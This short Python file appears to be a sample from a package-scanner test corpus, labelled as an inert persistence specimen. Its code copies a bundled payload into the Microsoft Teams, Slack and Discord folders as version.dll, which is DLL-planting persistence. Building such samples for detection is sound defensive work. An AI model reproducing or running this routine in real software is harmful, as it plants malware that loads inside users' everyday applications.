# pkgguard corpus 811 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    payload = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "ver.bin")
    local = os.environ.get("LOCALAPPDATA", "")
    for program in (("Microsoft", "Teams", "current"), ("slack",), ("Discord",)):
        folder = os.path.join(local, *program)
        if os.path.isdir(folder):
            shutil.copyfile(payload, os.path.join(folder, "version.dll"))
